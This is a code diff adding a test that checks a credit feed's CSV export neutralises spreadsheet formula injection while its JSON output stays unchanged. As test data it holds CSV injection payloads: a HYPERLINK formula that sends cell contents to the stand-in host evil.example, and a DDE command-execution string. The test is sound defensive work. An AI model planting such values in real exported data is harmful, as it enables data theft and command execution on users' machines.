@@ -3,6 +3,7 @@ import { existsSync, readdirSync, readFileSync } from 'node:fs'
 import path from 'node:path'
 import { ed25519 } from '@noble/curves/ed25519.js'
 import Database from 'libsql'
+import { parse as parseCsv } from 'csv-parse/sync'
 import request from 'supertest'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { CSV_COLUMNS, verifySignature } from '../../plugins/credits'
@@ -296,6 +297,57 @@ describe('credit feed', () => {
     expect(body.toString('utf8')).toContain('甲大学')
     expect(res.headers['x-next-cursor']).toBeTruthy()
     expect(res.headers['x-has-more']).toMatch(/true|false/)
+  })
+
+  it('neutralises spreadsheet formulas in CSV text cells, keeps numbers numeric, and leaves the JSON feed as it is', async () => {
+    // What a learner, an author, an organisation or a registrar could type, one per formula start.
+    const typed = {
+      learnerName: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+      studentNumber: '-1+2024',
+      title: '+SUM(1,2)',
+      titleEn: '@cmd|" /C calc"!A0',
+      issuer: '\r=1+1',
+      localCourseCode: '\t=cmd',
+    }
+    const issuer = (await createOrganization(t.payload, 'enterprise', '91441900MA51LP0033', typed.issuer)).id
+    const course = await createCourse(t.payload, issuer, { title: typed.title, titleEn: typed.titleEn, credits: 2, hours: 32, partners: [uniA] })
+    const mapping = await as(t.app, registrarA.token).post('/api/course-mappings').send({ course: course.id, localCourseCode: typed.localCourseCode, creditFactor: 1.5 })
+    expect(mapping.status, JSON.stringify(mapping.body)).toBe(201)
+    const s = await student(uniA, { name: typed.learnerName, studentNumber: typed.studentNumber })
+    await complete(s.id, course.id, 88)
+    await runJobs(t.payload)
+    const [record] = await recordsOf(s.id)
+
+    const res = await feed({ token: registrarA.token }, '?limit=1000').set('Accept', 'text/csv').buffer(true).parse((r, cb) => {
+      let text = ''
+      r.on('data', (c: Buffer) => (text += c))
+      r.on('end', () => cb(null, text))
+    })
+    expect(res.status).toBe(200)
+    const rows = parseCsv(res.body as string, { bom: true, columns: true }) as Array<Record<string, string>>
+    const row = rows.find((r) => r.record_id === String(record.id))
+    expect(row).toMatchObject({
+      learner_name: `'${typed.learnerName}`,
+      student_number: `'${typed.studentNumber}`,
+      source_title: `'${typed.title}`,
+      source_title_en: `'${typed.titleEn}`,
+      issuing_organization: `'${typed.issuer}`,
+      local_course_code: `'${typed.localCourseCode}`,
+      // Numbers stay numbers.
+      sequence: String(record.sequence),
+      credits: '2',
+      hours: '32',
+      score: '88',
+      local_credits: '3',
+    })
+    for (const r of rows) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r]/)
+
+    // JSON is not a spreadsheet: the feed sends what was typed.
+    const json = await feed({ token: registrarA.token }, '?limit=1000')
+    const sent = json.body.records.find((r: { id: Id }) => r.id === record.id)
+    expect(sent.learner).toMatchObject({ name: typed.learnerName, studentNumber: typed.studentNumber })
+    expect(sent.source).toMatchObject({ title: typed.title, titleEn: typed.titleEn, issuingOrganization: { name: typed.issuer } })
+    expect(sent.mapping).toEqual({ localCourseCode: typed.localCourseCode, creditFactor: 1.5, localCredits: 3 })
   })
 
   it.each([
